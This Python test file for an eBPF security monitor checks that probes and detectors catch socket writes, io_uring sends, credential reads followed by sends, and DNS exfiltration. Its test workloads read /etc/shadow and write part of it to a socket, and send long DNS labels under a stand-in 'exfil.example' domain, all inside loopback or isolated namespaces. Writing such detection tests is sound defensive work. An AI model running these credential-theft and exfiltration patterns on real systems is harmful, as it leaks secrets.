"""Root tests of the read-then-send transports (issue 16 item 8) with real BPF: a connected
unix socket's peer as the kernel names it, writes on sockets, io_uring sends, and the
detectors' verdicts on the events the probes really made."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from collector.events import ConnectEvent
from tests.syscall_workload import py

pytestmark = pytest.mark.bpf


def _serve(srv: socket.socket) -> tuple[socket.socket, threading.Thread]:
    """Accept on `srv` in a thread of this (unwatched) test process, outside every session,
    and read each connection until EOF."""
    srv.listen(8)
    srv.settimeout(20)

    def serve() -> None:
        try:
            while True:
                conn, _ = srv.accept()
                with conn:
                    conn.settimeout(5)
                    while conn.recv(65536):
                        pass
        except OSError:
            pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return srv, t


def _unix_listener(path: Path) -> tuple[socket.socket, threading.Thread]:
    """A unix stream listener in this (unwatched) test process: outside every session."""
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(path))
    return _serve(srv)


def test_unix_connect_names_its_peer(run_session, tmp_path: Path) -> None:
    outside = tmp_path / "outside.sock"
    srv, _ = _unix_listener(outside)
    inside = tmp_path / "inside.sock"
    try:
        r = run_session(py(f"""
            import socket, os
            c = socket.socket(socket.AF_UNIX); c.connect({str(outside)!r}); c.sendall(b"x")
            c.close()
            s = socket.socket(socket.AF_UNIX); s.bind({str(inside)!r}); s.listen(1)
            kid = os.fork()
            if kid == 0:
                c2 = socket.socket(socket.AF_UNIX); c2.connect({str(inside)!r}); os._exit(0)
            a, _ = s.accept(); os.waitpid(kid, 0)
            d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); d.bind({str(tmp_path / 'd')!r})
            e = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); e.connect({str(tmp_path / 'd')!r})
        """))
    finally:
        srv.close()
    assert r.exit_status == 0
    conns = [e for e in r.of("connect") if isinstance(e, ConnectEvent)
             and e.family == "AF_UNIX"]
    out = next(e for e in conns if e.address == str(outside))
    assert out.ret == 0 and out.peer_pid == os.getpid() and out.peer_in_session is False
    ins = next(e for e in conns if e.address == str(inside))
    assert ins.peer_pid == r.root_pid and ins.peer_in_session is True
    dg = next(e for e in conns if e.address == str(tmp_path / "d"))
    assert dg.ret == 0 and dg.peer_pid is None  # datagram sockets carry no peer credentials


LONG = "a" * 60 + ".x7fq2zr9kd0vbn3lw8mtc5yj1hgse6u4p.exfil.example"


def _tcp_listener(host: str, port: int) -> tuple[socket.socket, threading.Thread]:
    """A loopback TCP listener in this (unwatched) process that reads until EOF."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, port))
    return _serve(srv)


def test_socket_writes_of_a_flagged_process(run_session, tmp_path: Path) -> None:
    """A TCP connect to port 53 flags the process: its DNS-over-TCP write() is reported
    with the query name and the socket's peer, a writev too; other writes on the socket at
    most once a second per fd unless the session opened a file since; writes to files and
    pipes never; a process connected only to loopback (not port 53) is not flagged."""
    srv, _ = _tcp_listener("127.0.0.9", 53)
    other, _ = _tcp_listener("127.0.0.9", 0)
    oport = other.getsockname()[1]
    try:
        r = run_session(py(f"""
            import socket, os, struct
            c = socket.create_connection(("127.0.0.9", 53))
            q = dns_query({LONG!r})
            os.write(c.fileno(), struct.pack("!H", len(q)) + q)       # DNS over TCP
            os.write(c.fileno(), b"not dns 1" * 4)                     # reported: first
            os.write(c.fileno(), b"not dns 2" * 4)                     # not: within 1 s
            open("/etc/hostname").read()                               # an open...
            os.write(c.fileno(), b"not dns 3" * 4)                     # ...so reported
            q2 = dns_query("v.example")
            os.writev(c.fileno(), [struct.pack("!H", len(q2)) + q2])  # writev, DNS
            c.send(b"send without address " * 2)                       # not: within 1 s
            open({str(tmp_path / 'f')!r}, "w").write("a file")         # not a socket
            rd, wr = os.pipe(); os.write(wr, b"x" * 40)                # a pipe
            pid = os.fork()
            if pid == 0:
                # inherits the flag (it has the sockets too): its own first write counts
                os.write(c.fileno(), b"child write " * 4)
                os._exit(0)
            os.waitpid(pid, 0)
        """))
        r2 = run_session(py(f"""
            import socket, os
            d = socket.create_connection(("127.0.0.9", {oport}))
            os.write(d.fileno(), b"loopback bytes " * 4)
        """))
    finally:
        srv.close()
        other.close()
    assert r.exit_status == 0 and r2.exit_status == 0
    writes = [e for e in r.of("syscall") if e.syscall in ("write", "writev", "sendto")]
    assert [(e.syscall, e.dns_query, e.pid == r.root_pid) for e in writes] == [
        ("write", LONG, True), ("write", None, True), ("write", None, True),
        ("writev", "v.example", True), ("write", None, False)]
    assert all((e.family, e.address, e.port) == ("AF_INET", "127.0.0.9", 53)
               and e.args["connected"] is True for e in writes)
    # the DNS over TCP through the default detectors: dns_exfil's long label
    from detectors.config import defaults
    from tests.detector_fixtures import replay

    dns = [a for a in replay(r.events, defaults()) if a.detector == "dns_exfil"]
    assert dns and dns[0].fields["query"] == LONG
    assert not [a for a in replay(r.events, defaults()) if a.detector == "egress_violation"]
    assert writes[0].args["fd"] == writes[1].args["fd"]
    assert not [e for e in r2.of("syscall") if e.syscall in ("write", "writev")]


def test_write_after_a_credential_read_escalates(run_session, tmp_path: Path) -> None:
    """Live events through the default detectors: connected first (outside peer, unix),
    then /etc/shadow read, then write() on the socket: credential_read's kill; the same
    with the peer inside the session: the read alone."""
    from detectors.config import defaults
    from tests.detector_fixtures import replay

    outside = tmp_path / "o.sock"
    srv, _ = _unix_listener(outside)
    try:
        r = run_session(py(f"""
            import socket, os
            c = socket.socket(socket.AF_UNIX); c.connect({str(outside)!r})
            secret = open("/etc/shadow", "rb").read()
            os.write(c.fileno(), secret[:64] or b"x")
        """))
    finally:
        srv.close()
    assert r.exit_status == 0
    alerts = [a for a in replay(r.events, defaults()) if a.detector == "credential_read"
              and not a.folded]
    assert [(a.severity, a.fields["syscall"]) for a in alerts] == [
        ("high", "openat"), ("critical", "write")]
    crit = alerts[-1]
    assert crit.fields["family"] == "AF_UNIX" and crit.fields["address"] == str(outside)
    assert crit.action["requested"] == "kill"

    inside = tmp_path / "i.sock"
    r = run_session(py(f"""
        import socket, os
        s = socket.socket(socket.AF_UNIX); s.bind({str(inside)!r}); s.listen(1)
        c = socket.socket(socket.AF_UNIX); c.connect({str(inside)!r})
        a, _ = s.accept()
        secret = open("/etc/shadow", "rb").read()
        os.write(c.fileno(), secret[:64] or b"x")
    """))
    assert r.exit_status == 0
    alerts = [a for a in replay(r.events, defaults()) if a.detector == "credential_read"
              and not a.folded]
    assert [a.severity for a in alerts] == ["high"]


def test_uring_send_after_a_credential_read_escalates(run_session, tmp_path: Path) -> None:
    """io_uring: a unix socket connected (connect(2): the kernel names the outside peer),
    then /etc/shadow opened (IORING_OP_OPENAT), then IORING_OP_SEND on the socket (no
    address in the SQE): the sequence's kill, through the (pid, fd) of the connect."""
    import shutil

    from detectors.config import defaults
    from tests.conftest import REPO
    from tests.detector_fixtures import replay

    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.fail("no C compiler for tests/uring_ops.c (make setup installs gcc)")
    ops = tmp_path / "uring_ops"
    subprocess.run([cc, "-O2", "-Wall", "-o", str(ops), str(REPO / "tests" / "uring_ops.c")],
                   check=True)
    outside = tmp_path / "o.sock"
    srv, _ = _unix_listener(outside)
    try:
        # connected first, then the read (an io_uring OPENAT), then the send
        r = run_session([str(ops), f"unix:{outside}", "open:/etc/shadow", "send:the secret"])
    finally:
        srv.close()
    assert r.exit_status == 0
    sends = [e for e in r.of("syscall") if e.syscall == "sendto" and e.via == "io_uring"]
    assert sends and sends[0].args["fd"] is not None
    alerts = [a for a in replay(r.events, defaults()) if a.detector == "credential_read"
              and not a.folded]
    assert [(a.severity, a.fields["syscall"], a.fields.get("via")) for a in alerts] == [
        ("high", "openat", None), ("critical", "sendto", "io_uring")]
    assert alerts[-1].fields["address"] == str(outside)


@pytest.fixture
def two_netns() -> Iterator[tuple[str, str]]:
    """Two network namespaces of this test's own, joined by a veth pair: "a" holds
    10.213.7.1/30, "b" 10.213.7.2/30. No packet can reach anything else."""
    tag = f"aw{os.getpid() % 100000}"
    a, b = f"{tag}a", f"{tag}b"

    def ip(*args: str) -> None:
        subprocess.run(["ip", *args], check=True, capture_output=True)

    ip("netns", "add", a)
    try:
        ip("netns", "add", b)
        ip("-n", a, "link", "add", "v0", "type", "veth", "peer", "name", "v1", "netns", b)
        ip("-n", a, "addr", "add", "10.213.7.1/30", "dev", "v0")
        ip("-n", b, "addr", "add", "10.213.7.2/30", "dev", "v1")
        for ns, dev in ((a, "v0"), (b, "v1")):
            ip("-n", ns, "link", "set", dev, "up")
            ip("-n", ns, "link", "set", "lo", "up")
        yield a, b
    finally:
        subprocess.run(["ip", "netns", "del", b], capture_output=True)
        subprocess.run(["ip", "netns", "del", a], capture_output=True)


def test_inet_outside_the_allowlist_write_after_read(run_session, two_netns) -> None:
    """In a namespace of its own with a non-loopback peer: TCP connections to it (port 8443
    and 53) first, then /etc/shadow read, then DNS over TCP by write() on the port-53 one
    (dns_exfil's, not the sequence's), then write() on the other: credential_read's kill
    on that write (the connects alone are egress_violation's)."""
    from detectors.config import defaults
    from tests.detector_fixtures import replay

    a, b = two_netns
    server = subprocess.Popen(
        ["ip", "netns", "exec", b, sys.executable, "-c", textwrap.dedent("""
            import socket, threading
            def serve(port):
                s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.bind(("10.213.7.2", port)); s.listen(4); s.settimeout(30)
                try:
                    while True:
                        c, _ = s.accept()
                        while c.recv(4096):
                            pass
                except OSError:
                    pass
            for p in (8443, 53):
                threading.Thread(target=serve, args=(p,), daemon=True).start()
            print("ready", flush=True)
            import time; time.sleep(30)
        """)], stdout=subprocess.PIPE)
    try:
        assert server.stdout is not None and server.stdout.readline().strip() == b"ready"
        r = run_session(["ip", "netns", "exec", a, *py(f"""
            import socket, os, struct
            c = socket.create_connection(("10.213.7.2", 8443))
            os.write(c.fileno(), b"GET / HTTP/1.0\\r\\n\\r\\n")
            d = socket.create_connection(("10.213.7.2", 53))
            secret = open("/etc/shadow", "rb").read()
            q = dns_query({LONG!r})
            os.write(d.fileno(), struct.pack("!H", len(q)) + q)
            os.write(c.fileno(), secret[:64] or b"x")
        """)])
    finally:
        server.kill()
        server.wait()
    assert r.exit_status == 0
    alerts = [a for a in replay(r.events, defaults()) if not a.folded]
    cred = [(x.severity, x.fields["syscall"], x.fields.get("port")) for x in alerts
            if x.detector == "credential_read"]
    assert cred == [("high", "openat", None), ("critical", "write", 8443)]
    assert [x.fields["query"] for x in alerts if x.detector == "dns_exfil"] == [LONG]
    assert {x.key for x in alerts if x.detector == "egress_violation"} == {
        "10.213.7.2:8443", "10.213.7.2:53"}


@pytest.mark.parametrize("flag", ["-DAW_NO_PEER_BTF", "-DAW_NO_BTF"])
def test_probes_load_without_the_peer_offsets(flag: str) -> None:
    """A kernel whose BTF lacks the socket fields (probes/net.py PEER_FIELDS): the peer
    and the socket-write path compile out (peer_pid says AW_PEER_NO_BTF, writes of
    flagged processes find no socket and stay unreported); the probes still load."""
    from probes.loader import ProbeConfig, load
    from tests.conftest import bpf_unavailable

    if os.geteuid() != 0:
        bpf_unavailable("loading BPF needs root")
    probes = load(ProbeConfig(concerns=("proc", "file", "net", "sys"), extra_cflags=[flag]))
    probes.close()


def test_peer_cflags_fall_back_without_btf(monkeypatch: pytest.MonkeyPatch) -> None:
    from probes import btf, net

    def missing(*_a: object, **_k: object) -> list[str]:
        raise btf.BTFError("no such member")

    monkeypatch.setattr(btf, "cflags", missing)
    assert net.peer_cflags() == ["-DAW_NO_PEER_BTF"]
